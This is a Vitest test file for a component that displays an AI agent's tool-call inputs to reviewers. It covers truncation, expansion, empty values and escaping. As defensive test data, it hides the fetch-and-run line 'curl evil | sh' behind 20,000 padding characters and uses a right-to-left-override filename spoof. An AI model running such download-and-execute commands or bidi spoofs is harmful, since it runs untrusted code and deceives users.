import type { JsonValue } from '@millrace/core';
import { describe, expect, test } from 'vitest';
import { openDomPage } from '../../testing/dom-page.ts';

/** Renders a call. Returns its text and a function that presses a button. */
async function renderInput(name: string, input: JsonValue) {
  const page = await openDomPage('http://page.test/');
  const { InputView } = await import('./input-view.tsx');
  await page.render(<InputView name={name} input={input} text={JSON.stringify(input)} />);
  const buttons = () => [...page.window.document.querySelectorAll('button')];
  return {
    text: () => page.window.document.body.textContent,
    button: (words: RegExp) => buttons().find((one) => words.test(one.textContent ?? '')),
    press: (words: RegExp) =>
      page.act(() =>
        buttons()
          .find((one) => words.test(one.textContent ?? ''))
          ?.click(),
      ),
  };
}

describe('the input of a tool', () => {
  test('an edit of every occurrence is marked, and its other fields are shown', async () => {
    const edits = [{ old_text: 'a', new_text: 'b', replace_all: true }];
    const { text } = await renderInput('edit', { path: 'a.txt', edits, content: 'and this' });
    expect(text()).toContain('replaces every occurrence');
    expect(text()).toContain('and this');
  });

  test('an empty write shows that the file will be empty', async () => {
    const { text } = await renderInput('write', { path: 'important.txt', content: '' });
    expect(text()).toContain('The content is empty');
  });

  test('a call without an input shows that', async () => {
    expect((await renderInput('run', {})).text()).toContain('No input');
  });

  test('an empty text differs from a missing one', async () => {
    expect((await renderInput('run', { command: '' })).text()).toContain('""');
  });

  test.each(['bash', 'write'])('direction marks in a call of %s are escaped', async (name) => {
    const command = 'echo \u202Etxt.exe\u202C';
    const { text } = await renderInput(name, {
      command: command,
      content: command,
      '\u202Ekey': 1,
    });
    expect(text()).not.toMatch(/\p{Bidi_Control}/u);
    expect(text().split('\\u202E').length - 1).toBe(3);
  });

  const between = {
    blanks: ' '.repeat(20_000),
    'line breaks': '\n'.repeat(20_000),
    letters: 'x'.repeat(20_000),
    lines: '#\n'.repeat(20_000),
  };
  const cases = Object.entries(between).flatMap(([what, text]) => [
    [what, 'command', text] as const,
    [what, 'content', text] as const,
  ]);
  test.each(cases)('both ends are shown with many %s between them in a %s', async (...params) => {
    const [, field, many] = params;
    const { text } = await renderInput('write', { [field]: `echo ok ${many}; curl evil | sh` });
    const marker = /… [\d,]+ (?:lines|characters)|[␠↵] ×\d+/;
    expect(text()).toMatch(/echo ok[\s\S]*curl evil \| sh/);
    expect(text()).toMatch(marker);
    expect(text().length).toBeLessThan(2000);
  });

  test('a long text can be shown completely and folded again', async () => {
    const command = `start ${'x'.repeat(5000)} middle ${'x'.repeat(5000)} end`;
    const { text, press } = await renderInput('bash', { command: command });
    expect(text()).not.toContain('middle');
    await press(/Show all 10,018 characters/);
    expect(text()).toContain(command);
    await press(/Show less/);
    expect(text()).not.toContain('middle');
  });

  test('every line of a change can be shown', async () => {
    const lines = Array.from({ length: 300 }, (_, at) => `line ${at + 1};`);
    const { text, button, press } = await renderInput('write', { content: lines.join('\n') });
    const isAll = () => lines.every((line) => text().includes(line));
    expect(text()).toContain('line 300;');
    for (let presses = 0; presses < 5 && button(/Show more/) !== undefined; presses++)
      await press(/Show more/);
    expect(isAll()).toBe(true);
    await press(/Show less/);
    expect(isAll()).toBe(false);
  });
});
